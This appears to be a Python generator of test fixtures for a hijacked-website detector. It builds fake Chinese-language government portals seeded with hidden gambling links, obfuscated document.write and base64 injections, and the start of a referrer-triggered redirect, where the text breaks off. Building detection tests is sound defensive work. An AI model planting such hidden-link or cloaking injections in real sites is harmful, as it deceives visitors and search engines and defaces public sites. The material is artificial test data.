# off-screen (position:absolute;left:-9999px) block of casino links.

_NEWS_TW = [
    "本所辦理115年度秋季登革熱防治環境大掃除", "區長率隊視察轄內道路側溝清淤工程", "115年度里鄰長自強活動圓滿完成",
    "本所舉辦長青樂齡健康講座", "區公所辦理115年全民防衛動員暨災害防救演習", "歡慶重陽敬老禮金發放作業開始",
    "本區辦理115年度資源回收宣導活動", "社區發展協會年度評鑑結果公布", "本所辦理公職人員廉政宣導講習",
    "區長出席里民聯誼晚會", "本區環境清潔日成果豐碩", "推動節能減碳綠色生活宣導",
]
_NOTICE_TW = [
    "公告本區115年度低收入戶及中低收入戶複查結果", "本所115年度第2次約僱人員甄選公告", "公告115年度國民年金宣導說明會場次",
    "本區115年12月份停水通知", "公告本所辦公處所臨時停電作業", "115年度急難救助申請須知", "本區市民活動中心場地借用公告",
    "公告115年度役男體檢梯次", "本所115年度公有零售市場攤位招租公告", "本區里民大會召開日期公告",
]


def _roc(d: dt.date) -> str:
    return f"{d.year - 1911}-{d.month:02d}-{d.day:02d}"


_LI_NAMES = ["建安", "建倫", "仁慈", "仁愛", "光武", "光明", "敦安", "敦煌", "民炤", "群英", "群賢", "虎嘯", "和安", "通化", "通安", "臥龍", "龍門", "龍陣", "龍生", "龍圖", "龍淵", "龍泉", "龍坡", "古莊", "古風", "錦安", "錦華", "永康", "昌隆", "福住", "義村", "義安", "法治", "黎元", "黎孝", "黎和", "黎忠", "學府", "學府", "芳和", "車層", "住安", "新龍", "新聖", "新生", "德安", "大學", "民輝", "全安", "仁愛", "誠安", "華聲", "乾坤"]


def _tw_bulk(menu_items: list[tuple[str, list[str]]]) -> str:
    li = "".join(
        f'<tr><td>{n}里</td><td>{["陳", "林", "黃", "張", "李", "王", "吳", "劉"][i % 8]}○○</td><td>(02)2{700 + i:03d}-{1000 + i * 37:04d}</td>'
        f'<td>大安區{n}里{["新生南路", "復興南路", "和平東路", "信義路", "仁愛路", "敦化南路"][i % 6]}{i + 3}號</td></tr>'
        for i, n in enumerate(_LI_NAMES)
    )
    quick = "".join(f'<li><a href="/cp.aspx?n={700 + i}" title="{t}"><img src="/images/icon/q{i}.svg" alt="">{t}</a></li>' for i, t in enumerate(
        ["低收入戶申請", "急難救助", "中低收入老人生活津貼", "身心障礙者生活補助", "兵役役男徵集", "調解聲請", "國民年金", "育兒津貼",
         "敬老卡", "市民活動中心借用", "里鄰簡訊", "災害通報", "公民會館", "區政諮詢", "出生登記", "結婚登記", "防詐專區", "長照服務"]))
    smap = "".join(
        f'<li><a href="/cp.aspx?n={i}">{m}</a><ul>' + "".join(f'<li><a href="/cp.aspx?n={i}{j:02d}">{sub}</a></li>' for j, sub in enumerate(subs)) + "</ul></li>"
        for i, (m, subs) in enumerate(menu_items)
    )
    tasks = ["戶政諮詢", "低收入戶", "中低收入戶", "急難救助", "國民年金", "老人津貼", "身障補助", "育兒津貼", "托育補助", "役男徵集", "替代役",
             "後備軍人", "調解業務", "區民活動中心", "里鄰業務", "民防業務", "災害防救", "公共工程", "路燈維護", "側溝清疏", "公園綠地",
             "採購業務", "出納業務", "會計業務", "人事業務", "政風業務", "研考業務", "檔案管理", "資訊業務", "為民服務", "宗教禮俗",
             "人民團體", "社區發展", "藝文活動", "體育活動", "環境教育", "性別平等", "原住民事務", "新住民服務", "市民活動中心借用",
             "里辦公處", "鄰長業務", "基層建設", "小型工程", "路面維護", "違建查報", "綠美化", "防汛整備", "防疫業務", "登革熱防治",
             "長照據點", "社區關懷據點", "兒少保護", "家暴防治", "特殊境遇家庭", "喪葬補助", "重陽禮金", "敬老活動", "志工管理",
             "公文收發", "印信管理", "財產管理", "車輛管理", "廳舍管理", "文書檔案", "個資保護", "資訊安全", "網站管理", "陳情案件"]
    staff = "".join(
        f'<tr><td>{t}</td><td>{["民政課", "社會課", "經建課", "人文課", "秘書室", "會計室", "人事室", "政風室"][i % 8]}</td>'
        f'<td>{["陳", "林", "黃", "張", "李", "王", "吳", "劉", "蔡", "楊"][i % 10]}{["小姐", "先生"][i % 2]}</td><td>(02)2351-1711 分機{3100 + i * 3}</td></tr>'
        for i, t in enumerate(tasks)
    )
    return (
        f'<div class="staff"><h3>業務承辦人一覽</h3><table class="rwd-table"><caption>業務承辦人</caption><thead><tr><th>業務項目</th><th>單位</th><th>承辦人</th><th>聯絡電話</th></tr></thead><tbody>{staff}</tbody></table></div>'
        f'<div class="quick"><h3>快速服務</h3><ul>{quick}</ul></div>'
        f'<div class="li-list"><h3>里長名錄</h3><table class="rwd-table"><caption>里長名錄</caption><thead><tr><th>里別</th><th>里長</th><th>電話</th><th>辦公處</th></tr></thead><tbody>{li}</tbody></table></div>'
        f'<div class="fatfooter"><button type="button" class="btn-fatfooter">收合</button><ul>{smap}</ul></div>'
    )


def _tw_portal(name: str, title: str, cols: list[Column], hidden: str) -> str:
    menu_items = [
        ("關於本所", ["首長介紹", "組織架構", "業務職掌", "里長名錄", "轄區地圖", "交通資訊"]),
        ("最新消息", ["本所新聞", "公告事項", "活動訊息", "徵才資訊", "災害防救", "標案公告"]),
        ("便民服務", ["申辦須知", "書表下載", "常見問答", "場地借用", "調解服務", "兵役業務", "社會福利", "人文課"]),
        ("政府資訊公開", ["施政計畫", "預算書", "決算書", "統計資料", "政府採購", "出版品", "行政指導文書"]),
        ("主題專區", ["性別平等", "廉政專區", "個資保護", "防災專區", "環境教育", "長期照顧"]),
        ("認識本區", ["區域歷史", "觀光景點", "在地美食", "藝文活動", "社區營造"]),
    ]
    nav = "".join(
        f'<li class="has-sub"><a href="/cp.aspx?n={i}">{m}</a><ul class="submenu">'
        + "".join(f'<li><a href="/cp.aspx?n={i}{j:02d}">{s}</a></li>' for j, s in enumerate(subs)) + "</ul></li>"
        for i, (m, subs) in enumerate(menu_items)
    )
    sections = []
    for col in cols:
        rows = "".join(
            f'<tr><td class="CCMS_jGridView_td_Class_0"><a href="/News_Content.aspx?n={col.slug}&amp;s={_dt(d).replace("-", "")}{i}" title="{t}">{t}</a></td><td class="CCMS_jGridView_td_Class_1">{_roc(d)}</td></tr>'
            for i, (t, d) in enumerate(col.items[:8])
        )
        sections.append(
            f'<div class="group-list"><div class="in"><div class="hd"><h3>{col.name}</h3></div><div class="ct">'
            f'<table class="table-list"><caption>{col.name}</caption><thead><tr><th>標題</th><th>發布日期</th></tr></thead><tbody>{rows}</tbody></table>'
            f'<div class="more"><a href="/News.aspx?n={col.slug}" title="更多{col.name}">更多</a></div></div></div></div>'
        )
    return f"""<!DOCTYPE html>
<html lang="zh-Hant-TW">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{title}</title>
<meta name="DC.Title" content="{title}">
<meta name="DC.Publisher" content="{name}">
<meta name="Description" content="ｂｅｔ３６５體育投注、百家樂、線上娛樂城推薦、運彩分析，註冊即送體驗金">
<meta name="Keywords" content="娛樂城,線上娛樂城,百家樂,運彩,ｂｅｔ３６５,老虎機">
<link rel="stylesheet" href="/css/ccms.css?v=20240612">
<link rel="stylesheet" href="/css/ccms_print.css" media="print">
<style>
body{{font-family:"微軟正黑體",Arial;font-size:15px}}.header{{background:#0a5b8c}}.menu>ul>li{{display:inline-block;position:relative}}
.menu .submenu{{display:none;position:absolute}}.menu li:hover .submenu{{display:block}}
.group-list{{width:48%;float:left;margin:1%}}.table-list{{width:100%}}.table-list caption{{display:none}}
.accesskey{{color:#fff;font-size:0.8em}}.footer{{background:#333;color:#ddd;padding:20px}}
</style>
</head>
<body>
<noscript>您的瀏覽器不支援JavaScript功能，若網頁功能無法正常使用時，請開啟瀏覽器JavaScript狀態</noscript>
<a href="#C" class="skip" title="跳到主要內容區塊" tabindex="1">跳到主要內容區塊</a>
<div class="header"><div class="container"><a class="accesskey" href="#U" id="AU" title="上方功能區塊" accesskey="U">:::</a>
<h1><a href="/Default.aspx"><img src="/images/logo.png" alt="{name}"></a></h1>
<div class="topnav"><a href="/Default.aspx">回首頁</a> | <a href="/sitemap.aspx">網站導覽</a> | <a href="/en/">English</a> | <a href="https://www.facebook.com/daandistrict" target="_blank">Facebook</a></div>
<form class="search" action="/Search.aspx"><label for="q">搜尋</label><input id="q" name="q" type="text"><button type="submit">搜尋</button></form>
<div class="menu"><ul>{nav}</ul></div></div></div>
<div class="main"><a class="accesskey" href="#C" id="AC" title="中央內容區塊" accesskey="C">:::</a>
<div class="banner"><ul><li><img src="/images/banner1.jpg" alt="115年全民防衛動員演習"></li><li><img src="/images/banner2.jpg" alt="防詐騙宣導"></li></ul></div>
{"".join(sections)}
<div class="group-list"><div class="in"><div class="hd"><h3>便民服務</h3></div><div class="ct"><ul>
<li><a href="/cp.aspx?n=201">戶政服務</a></li><li><a href="/cp.aspx?n=202">兵役業務</a></li><li><a href="/cp.aspx?n=203">社會救助</a></li><li><a href="/cp.aspx?n=204">調解業務</a></li><li><a href="/cp.aspx?n=205">場地借用</a></li></ul></div></div></div>
</div>
{_tw_bulk(menu_items)}
<div class="footer"><a class="accesskey" href="#Z" id="AZ" title="下方功能區塊" accesskey="Z">:::</a>
<p>{name}　地址：106臺北市大安區新生南路二段86號　電話：(02)2351-1711</p>
<p>服務時間：週一至週五 08:30-17:30　<a href="/cp.aspx?n=300">隱私權政策</a> | <a href="/cp.aspx?n=301">資訊安全政策</a> | <a href="/cp.aspx?n=302">政府網站資料開放宣告</a></p>
<p>瀏覽人次：<span>3,025,118</span>　更新日期：{_roc(ago(1))}</p>
<p><a href="https://accessibility.moda.gov.tw/Applications/Detail?category=20240315095612" title="無障礙網站"><img src="/images/accessibility.png" alt="通過AA無障礙網頁檢測"></a></p>
</div>
{hidden}
<script src="/js/jquery-3.7.1.min.js"></script><script src="/js/ccms.js"></script>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-7KQ2X9P0RS"></script>
<script>window.dataLayer=window.dataLayer||[];function gtag(){{dataLayer.push(arguments);}}gtag('js',new Date());gtag('config','G-7KQ2X9P0RS');</script>
</body></html>"""


def _h2() -> BlindSite:
    name = "臺北市大安區公所"
    cols = [
        Column("本所新聞", "news", "news", _mk(_NEWS_TW, [1, 2, 4, 6, 7, 9, 11, 13, 16, 19])),
        Column("公告事項", "notice", "notice", _mk(_NOTICE_TW, [3, 8, 14, 20, 27, 35, 46, 58, 63, 77])),
    ]
    title = "ｂｅｔ３６５體育投注－百家樂線上娛樂城－運彩分析｜臺北市大安區公所"
    spam = [
        ("https://www.tha-casino.tw/", "THA娛樂城"), ("https://www.leo-game88.com/", "LEO娛樂城"),
        ("https://www.jiuzhou-bet.net/", "九州娛樂城"), ("https://www.jinhefa-168.com/", "金合發娛樂城"),
        ("https://www.bjl-tw.vip/", "線上百家樂"), ("https://www.slot-tw365.com/", "老虎機推薦"),
        ("https://www.yuncai-fx.com/", "運彩分析"), ("https://www.qiuban-tw.net/", "球版推薦"),
        ("https://www.buyu-game.tw/", "捕魚機"), ("https://www.casino-tw2025.com/", "娛樂城推薦 2025"),
    ]
    hidden = ('<div style="position:absolute;left:-9999px;top:-9999px;">'
              + " ".join(f'<a href="{u}" title="{t}">{t}</a>' for u, t in spam) + "</div>")
    home = _tw_portal(name, title, cols, hidden)
    pages = {"/": home, "/Default.aspx": home}
    for col in cols:
        rows = "".join(
            f'<tr><td><a href="/News_Content.aspx?n={col.slug}&amp;s={_dt(d).replace("-", "")}{i}">{t}</a></td><td>{_roc(d)}</td><td>{name}</td></tr>'
            for i, (t, d) in enumerate(col.items)
        )
        pages[f"/News.aspx?n={col.slug}"] = (
            f'<!DOCTYPE html><html lang="zh-Hant-TW"><head><meta charset="utf-8"><title>{col.name}-{name}</title></head><body>'
            f'<div class="path">現在位置：<a href="/">首頁</a> &gt; {col.name}</div><h2>{col.name}</h2>'
            f'<table class="table-list"><thead><tr><th>標題</th><th>發布日期</th><th>發布單位</th></tr></thead><tbody>{rows}</tbody></table>'
            f'<div class="page">共{len(col.items)}筆資料，第1/1頁</div><div class="footer">{name}</div></body></html>'
        )
    site = BlindSite("daan", "www.daan.gov.taipei", name, "zh-Hant", "full-width title + left:-9999px block", pages,
                     full=Truth("hijacked", False, must=("spam_content", "hidden_links"), newest=ago(1)),
                     home=Truth("hijacked", False, must=("spam_content", "hidden_links"), newest=ago(1)))
    for col in cols:
        site.columns[col.name] = (col.type, col.newest, False)
    return site


# ---------------------------------------------------------------------------
# H3: county education bureau: a height:0;overflow:hidden wrapper and a text-indent
# paragraph of 2024-style "brand·name" spam (interpuncts inserted into the brands).

_NEWS_EDU = [
    "县教育局召开2026年秋季学期教育教学质量分析会", "我县开展中小学校园安全隐患大排查", "县教育局组织开展“双减”工作专项督导",
    "全县中小学教师信息技术应用能力提升培训开班", "我县举办2026年中小学生田径运动会", "县教育局开展校园食品安全专项检查",
    "我县两所学校获评省级现代化学校", "全县中小学心理健康教育工作推进会召开", "县教育局部署冬季校园防溺水和消防安全工作",
    "我县举行新教师入职宣誓仪式", "全县学前教育普及普惠督导评估迎检工作会召开", "我县开展“书香校园”读书月活动",
]
_NOTICE_EDU = [
    "关于2026年清溪县中小学教师资格定期注册结果的公示", "关于做好2027年义务教育阶段招生入学工作的通知",
    "关于公布2026年县级优质课评比结果的通知", "关于开展2026年学生资助政策宣传月活动的通知", "关于2026年下半年中小学教师资格认定工作的公告",
    "关于县级名师工作室考核结果的公示", "关于规范校外培训机构办学行为的通告", "关于2026年度教育系统评优评先拟表彰名单的公示",
]


def _h3() -> BlindSite:
    name = "清溪县教育局"
    cols = [
        Column("教育要闻", "news", "jyyw", _mk(_NEWS_EDU, [1, 3, 4, 6, 8, 10, 11, 14, 17, 19, 24])),
        Column("通知公告", "notice", "tzgg", _mk(_NOTICE_EDU, [2, 9, 15, 23, 31, 42, 56, 68])),
        Column("校园动态", "news", "xydt", _mk(_NEWS_EDU[4:] + _NEWS_EDU[:4], [1, 2, 5, 7, 9, 12, 15, 18, 22, 26])),
        Column("政策法规", "policy", "zcfg", _mk(_POLICY_ZH, [12, 40, 66, 98, 130, 160])),
        Column("人事招聘", "personnel", "rszp", _mk(_PERSONNEL_ZH, [6, 30, 61, 95, 140, 200])),
        Column("招生考试", "other", "zsks", _mk(_NOTICE_EDU[1:] + _NOTICE_EDU[:1], [5, 18, 33, 49, 77, 90])),
    ]
    menu = [
        ("机构概况", "jggk", ["单位简介", "领导分工", "内设科室", "直属单位", "联系方式"]),
        ("教育动态", "jydt", ["教育要闻", "校园动态", "图片新闻", "媒体聚焦", "基层风采"]),
        ("信息公开", "xxgk", ["政策法规", "规划计划", "财政资金", "人事招聘", "教育统计", "建议提案", "重点领域"]),
        ("招生考试", "zsks", ["中考信息", "高考信息", "义务教育招生", "学前教育招生", "成人教育"]),
        ("教育服务", "jyfw", ["学生资助", "教师资格", "学籍管理", "办事指南", "表格下载", "民办教育"]),
        ("互动交流", "hdjl", ["局长信箱", "咨询投诉", "网上调查", "常见问题"]),
        ("专题专栏", "ztzl", ["双减工作", "校园安全", "清廉学校", "心理健康", "教育督导"]),
    ]
    spam = [
        ("https://www.kaiyun-zg.com/", "开·云体育(中国)官方网站"), ("https://www.j9-jyh.vip/", "九游·会(J9)官方网站"),
        ("https://www.bandao-bob.com/", "半岛·BOB官方网站"), ("https://www.ayx-ty.net/", "爱游戏(ayx)中国官方网站"),
        ("https://www.leyu-ty8.com/", "乐鱼体育官网入口"), ("https://www.mile-m6.cc/", "米乐m6官网登录"),
        ("https://www.xingkong-ty.com/", "星空体育app下载"), ("https://www.wnsr-am.vip/", "澳门威尼斯人官网"),
    ]
    block1 = ('<div style="height:0;overflow:hidden"><ul>'
              + "".join(f'<li><a href="{u}" target="_blank">{t}</a></li>' for u, t in spam[:5]) + "</ul></div>")
    block2 = ('<p style="text-indent:-9999em;margin:0">'
              + "".join(f'<a href="{u}">{t}</a>' for u, t in spam[5:]) + "</p>")
    home = _zh_portal(
        site_name=name, title=name, keywords="清溪教育,清溪县教育局,教育资讯", description="清溪县教育局官方网站",
        cols=cols, menu=menu, sitecode="3311270012", icp="浙ICP备10204511号", police="33112702000218",
        body_extra=block1, footer_extra=block2, leader_box=False,
    )
    site = BlindSite("qxedu", "jyj.qingxi.gov.cn", name, "zh", "height:0 wrapper + text-indent paragraph", {"/": home},
                     full=Truth("hijacked", False, must=("spam_content", "hidden_links"), newest=ago(1)),
                     home=Truth("hijacked", False, must=("spam_content", "hidden_links"), newest=ago(1)))
    return _finish(site, cols)


# ---------------------------------------------------------------------------
# H4: a street office (街道) on an older table layout with year-less [MM-DD] dates:
# font-size:0 links and the classic SEO <marquee height=1 width=6 scrollamount=3000>.

def _street_phones() -> str:
    units = ["街道党政办", "街道社会事务办", "街道城建办", "街道经济发展办", "街道综治中心", "街道应急管理办", "街道退役军人服务站", "街道便民服务中心",
             "城关派出所", "城关市场监管所", "城关司法所", "城关财政所", "城关卫生院", "城关中学", "城关小学", "城关幼儿园", "县供电公司城关供电所",
             "县自来水公司", "县燃气公司", "县公交公司", "县人民医院", "县中医院", "县妇幼保健院", "县疾控中心", "县12345热线", "县消防救援大队",
             "县交警大队城关中队", "县城管局城关中队", "县自然资源所", "县税务局城关分局",
             "街道党群服务中心", "街道新时代文明实践所", "街道文化站", "街道老年活动中心", "街道残联", "街道妇联", "街道团工委", "街道总工会",
             "街道劳动保障所", "街道医保服务站", "街道计生办", "街道统计站", "城关农商银行", "城关邮政所", "城关供销社", "城关兽医站",
             "县信访局接待室", "县法律援助中心", "县心理援助热线", "县不动产登记中心", "县婚姻登记处", "县殡仪馆", "县救助站", "县老年大学"]
    cells = []
    for i in range(0, len(units), 2):
        a, b = units[i], units[i + 1]
        cells.append(f'<tr><td class="t">{a}</td><td>0571-8617{2000 + i:04d}</td><td class="t">{b}</td><td>0571-8617{2001 + i:04d}</td></tr>')
    return "".join(cells)


def _street_index() -> str:
    items = ["机构职能", "领导信息", "内设机构", "政策文件", "规划计划", "财政预决算", "部门预决算", "三公经费", "民生保障", "低保救助",
             "残疾人服务", "养老服务", "就业服务", "医疗保障", "住房保障", "征地拆迁", "城市管理", "环境保护", "安全生产", "应急管理",
             "食品安全", "教育信息", "卫生健康", "文化体育", "退役军人", "民族宗教", "统计信息", "人事信息", "建议提案", "依申请公开",
             "信息公开指南", "信息公开制度", "信息公开年报", "社区服务", "网格管理", "平安建设"]
    rows = []
    for i in range(0, len(items), 6):
        rows.append("<tr>" + "".join(f'<td><a href="/xxgk/{i + j}/">{t}</a></td>' for j, t in enumerate(items[i:i + 6])) + "</tr>")
    return "".join(rows)


def _table_portal(name: str, cols: list[Column], injected_top: str, injected_bottom: str) -> str:
    def block(col: Column) -> str:
        rows = "".join(
            f'<tr><td width="12"><img src="/images/dot.gif"></td><td class="t"><a href="{_art_href(col.slug, d, i)}" target="_blank" title="{t}">{t[:22]}</a></td><td width="60" class="date">[{d:%m-%d}]</td></tr>'
            for i, (t, d) in enumerate(col.items[:8])
        )
        return (f'<table width="100%" border="0" cellspacing="0" cellpadding="0" class="bk"><tr><td class="bt" background="/images/bt_bg.gif">'
                f'<table width="100%"><tr><td class="bt_l"><b>{col.name}</b></td><td align="right"><a href="/{col.slug}/" class="more">more&gt;&gt;</a></td></tr></table></td></tr>'
                f'<tr><td><table width="100%" border="0" cellspacing="0" cellpadding="0">{rows}</table></td></tr></table>')
    cells = []
    for k in range(0, len(cols), 2):
        right = block(cols[k + 1]) if k + 1 < len(cols) else "&nbsp;"
        cells.append(f'<tr><td width="49%" valign="top">{block(cols[k])}</td><td width="2%"></td><td width="49%" valign="top">{right}</td></tr>')
    nav = "".join(f'<td align="center"><a href="/{s}/" class="nav">{n}</a></td>' for n, s in [
        ("首 页", ""), ("街道概况", "jdgk"), ("工作动态", "gzdt"), ("通知公告", "tzgg"), ("党建之窗", "djzc"), ("社区建设", "sqjs"),
        ("便民服务", "bmfw"), ("平安建设", "pajs"), ("信息公开", "xxgk"), ("书记信箱", "sjxx")])
    filler = "".join(
        f'<tr><td><a href="/sqjs/{i}/">{s}社区</a></td><td>联系电话：0571-8617{i:04d}</td><td>地址：清溪县城关街道{s}路{i + 10}号</td></tr>'
        for i, s in enumerate(["东门", "西门", "南门", "北门", "新华", "解放", "人民", "健康", "文化", "幸福", "和平", "光明", "城东", "城西", "城南", "城北", "桥头", "溪口", "柳岸", "枫林", "翠苑", "锦绣", "春晖", "秀水", "金桥", "银河", "福田", "安居", "康乐", "紫荆", "丹桂", "学府"])
    )
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
<title>{name}</title>
<meta name="keywords" content="{name},城关街道,社区服务" />
<link href="/css/style.css" rel="stylesheet" type="text/css" />
<style type="text/css">
body {{margin:0;font-size:12px;background:#eef3f7}} .nav {{color:#fff;font-size:14px;font-weight:bold}} .bt_l {{color:#0d4f8b;font-size:14px}}
.bk {{border:1px solid #bcd3e6;margin-bottom:8px}} .date {{color:#888}} .t a {{color:#222}} .more {{color:#c00}}
</style>
<script language="javascript" src="/js/MSClass.js"></script>
</head>
<body>
{injected_top}
<table width="1000" border="0" align="center" cellpadding="0" cellspacing="0">
<tr><td><img src="/images/top.jpg" width="1000" height="150" alt="{name}" /></td></tr>
<tr><td height="36" background="/images/nav_bg.jpg"><table width="100%"><tr>{nav}</tr></table></td></tr>
<tr><td height="30" bgcolor="#f4f8fb">&nbsp;今天是：<script>document.write(new Date().toLocaleDateString());</script>　<marquee width="700" scrollamount="3" onmouseover="this.stop()" onmouseout="this.start()">欢迎访问{name}网站！城关街道坚持党建引领基层治理，全心全意为辖区居民服务。</marquee></td></tr>
<tr><td><table width="100%" border="0" cellspacing="0" cellpadding="0">{"".join(cells)}</table></td></tr>
<tr><td><table width="100%" border="0" cellspacing="0" cellpadding="0" class="bk"><tr><td class="bt" colspan="3"><b>社区导航</b></td></tr>{filler}</table></td></tr>
<tr><td><table width="100%" border="0" cellspacing="0" cellpadding="0" class="bk"><tr><td class="bt" colspan="4"><b>便民服务电话</b></td></tr>{_street_phones()}</table></td></tr>
<tr><td><table width="100%" border="0" cellspacing="0" cellpadding="0" class="bk"><tr><td class="bt" colspan="6"><b>信息公开目录</b></td></tr>{_street_index()}</table></td></tr>
<tr><td align="center" bgcolor="#0d4f8b" style="color:#fff;line-height:24px;padding:10px">
主办：{name}　地址：清溪县城关镇解放路88号　电话：0571-86171234<br />
<a href="https://beian.miit.gov.cn/" style="color:#fff">浙ICP备11034567号</a>　技术支持：清溪县信息中心<br />
Copyright &copy; 2012-2026 {name} All Rights Reserved
{injected_bottom}
</td></tr></table>
</body></html>"""


_NEWS_STREET = [
    "城关街道召开冬季消防安全专项整治部署会", "街道开展“敬老月”走访慰问活动", "街道党工委召开理论学习中心组学习会",
    "新华社区开展垃圾分类入户宣传", "街道组织开展城市管理综合执法行动", "人民社区举办“邻里节”文艺汇演",
    "街道召开基层治理“网格化”工作推进会", "街道开展防范非法集资宣传进社区活动", "解放社区新时代文明实践站揭牌",
    "街道举办辖区企业安全生产培训会", "街道开展老旧小区改造入户意见征集", "和平社区开展重阳节包饺子活动",
]


def _h4() -> BlindSite:
    name = "清溪县城关街道办事处"
    cols = [
        Column("工作动态", "news", "gzdt", _mk(_NEWS_STREET, [0, 2, 3, 5, 7, 8, 11, 13, 16, 20])),
        Column("通知公告", "notice", "tzgg", _mk(_NOTICE_ZH, [4, 12, 22, 39, 60, 85, 101, 130])),
        Column("社区风采", "other", "sqfc", _mk(_NEWS_STREET[6:] + _NEWS_STREET[:6], [1, 4, 6, 9, 12, 15, 19, 23])),
        Column("党建之窗", "other", "djzc", _mk(_NEWS_STREET[3:] + _NEWS_STREET[:3], [2, 6, 9, 13, 18, 24, 30, 35])),
    ]
    spam = [
        ("https://www.hg-huangguan.com/", "皇冠体育"), ("https://www.ty-yl888.com/", "太阳城集团"),
        ("https://www.yh-yinhe.net/", "澳门银河娱乐场"), ("https://www.ssc-cp.vip/", "重庆时时彩"),
        ("https://www.pk10-bjsc.com/", "北京赛车pk10"), ("https://www.k3-kuaisan.cc/", "快三计划"),
    ]
    top = ('<div style="font-size:0px;line-height:0px;color:#eef3f7">'
           + "".join(f'<a href="{u}">{t}</a>' for u, t in spam[:3]) + "</div>")
    bottom = ('<marquee height="1" width="6" scrollamount="3000" scrolldelay="20000">'
              + "".join(f'<a href="{u}" target="_blank">{t}</a>' for u, t in spam[3:])
              + '<a href="https://www.dfcp-dafa.com/">大发彩票网</a><a href="https://www.xyft-cp.com/">幸运飞艇开奖</a></marquee>')
    home = _table_portal(name, cols, top, bottom)
    site = BlindSite("chengguan", "www.cgjd.qingxi.gov.cn", name, "zh", "font-size:0 block + fast tiny marquee",
                     {"/": home},
                     full=Truth("hijacked", False, must=("spam_content", "hidden_links"), newest=ago(0)),
                     home=Truth("hijacked", False, must=("spam_content", "hidden_links"), newest=ago(0)))
    return _finish(site, cols)


# ---------------------------------------------------------------------------
# H5: water resources bureau: spam written by document.write with \\u / \\x escapes,
# and a second one through decodeURIComponent(escape(atob(...))).

_NEWS_WATER = [
    "县水利局召开2026年冬春水利建设动员会", "我县小型水库除险加固工程通过竣工验收", "县水利局开展河湖“清四乱”专项行动",
    "全县农村饮用水达标提标工程加快推进", "县水利局组织开展水旱灾害防御应急演练", "我县幸福河湖建设项目获省级表彰",
    "县水利局开展水利工程安全度汛检查", "清溪河综合治理二期工程开工建设", "县河长办召开县级河长述职会",
    "县水利局开展“世界水日”“中国水周”宣传活动", "全县水土保持目标责任考核工作启动", "我县完成年度取水口核查登记",
]


def _h5() -> BlindSite:
    name = "清溪县水利局"
    cols = [
        Column("水利要闻", "news", "slyw", _mk(_NEWS_WATER, [1, 2, 4, 6, 9, 10, 13, 15, 19, 22])),
        Column("通知公告", "notice", "tzgg", _mk(_NOTICE_ZH, [3, 10, 17, 28, 44, 63, 88, 110])),
        Column("河长制", "other", "hzz", _mk(_NEWS_WATER[2:] + _NEWS_WATER[:2], [2, 5, 8, 12, 14, 17, 21, 25])),
        Column("政策法规", "policy", "zcfg", _mk(_POLICY_ZH, [20, 47, 80, 115, 150, 170])),
    ]
    html1 = ('<div style="display:none"><a href="https://www.kaiyun-app8.com/">开云体育</a>'
             '<a href="https://www.jyh-j9.vip/">九游会</a><a href="https://www.bet-bjl.com/">百家乐</a>'
             '<a href="https://www.amwnsr.cc/">澳门威尼斯人</a></div>')
    html2 = ('<a href="https://www.hth-sports.vip/" title="华体会体育">华体会体育</a>'
             '<a href="https://www.pg-dianzi.com/">PG电子游艺平台</a><a href="https://www.amxpj8.com/">澳门新葡京</a>'
             '<a href="https://www.liuhecai-kj.com/">六合彩开奖结果</a>')
    b64 = base64.b64encode(html2.encode()).decode()
    script = (
        f'<script type="text/javascript">document.write("{_js_u(html1)}");</script>\n'
        '<script type="text/javascript">var _0x3f2a=["\\x77\\x72\\x69\\x74\\x65"];'
        f'document[_0x3f2a[0]]("\\x3cdiv style=\\x22position:absolute;top:-3000px\\x22\\x3e"+decodeURIComponent(escape(window.atob("{b64}")))+"\\x3c/div\\x3e");</script>'
    )
    menu = [
        ("机构概况", "jggk", ["单位简介", "领导分工", "内设机构", "下属单位"]),
        ("水利动态", "sldt", ["水利要闻", "基层动态", "图片新闻", "视频新闻"]),
        ("信息公开", "xxgk", ["政策法规", "规划计划", "财政资金", "人事信息", "行政许可", "行政处罚", "水利统计"]),
        ("河长制", "hzz", ["工作动态", "河长名录", "一河一策", "曝光台"]),
        ("水旱灾害防御", "shfy", ["雨水情", "防汛预警", "防汛知识", "应急预案"]),
        ("政务服务", "zwfw", ["办事指南", "表格下载", "在线办理"]),
        ("互动交流", "hdjl", ["局长信箱", "咨询投诉", "征集调查"]),
    ]
    home = _zh_portal(
        site_name=name, title=name, keywords="清溪水利,河长制,水旱灾害防御", description="清溪县水利局门户网站",
        cols=cols, menu=menu, sitecode="3311270025", icp="浙ICP备10208832号", police="33112702000305",
        footer_extra=script, leader_box=False,
    )
    site = BlindSite("qxwater", "slj.qingxi.gov.cn", name, "zh", "escaped and base64 document.write", {"/": home},
                     full=Truth("hijacked", False, must=("hidden_links",), newest=ago(1)),
                     home=Truth("hijacked", False, must=("hidden_links",), newest=ago(1)))
    return _finish(site, cols)


# ---------------------------------------------------------------------------
# H6: health commission: a redirect that fires only for visitors coming from a search
# engine, its target built with String.fromCharCode.

_NEWS_HEALTH = [
    "县卫健局召开冬春季传染病防控工作部署会", "我县启动2026年家庭医生签约服务提质行动", "县人民医院胸痛中心通过国家级认证",
    "县卫健局开展医疗机构安全生产专项检查", "我县举办基层卫生人才能力提升培训班", "县疾控中心开展流感疫苗接种进社区活动",
    "全县医共体建设推进会召开", "县卫健局开展“世界艾滋病日”宣传活动", "我县启动老年人健康体检工作",
    "县中医院举办中医药文化宣传周活动", "县卫健局开展医疗卫生行业综合监管督查", "全县妇幼健康工作会议召开",
]


def _h6() -> BlindSite:
    name = "清溪县卫生健康局"
    cols = [
        Column("卫健要闻", "news", "wjyw", _mk(_NEWS_HEALTH, [1, 3, 4, 5, 8, 11, 12, 16, 18, 21])),
        Column("通知公告", "notice", "tzgg", _mk(_NOTICE_ZH, [5, 11, 19, 30, 47, 66, 92, 121])),
        Column("基层动态", "news", "jcdt", _mk(_NEWS_HEALTH[6:] + _NEWS_HEALTH[:6], [2, 3, 6, 9, 11, 14, 18, 22])),
        Column("政策文件", "policy", "zcwj", _mk(_POLICY_ZH, [15, 36, 58, 90, 126, 175])),
    ]
    target = "https://www.amjs-7788.com/?from=wjj"
    codes = ",".join(str(ord(c)) for c in target)
    script = (
        '<script type="text/javascript">\n'
        '(function(){var r=document.referrer.toLowerCase();'
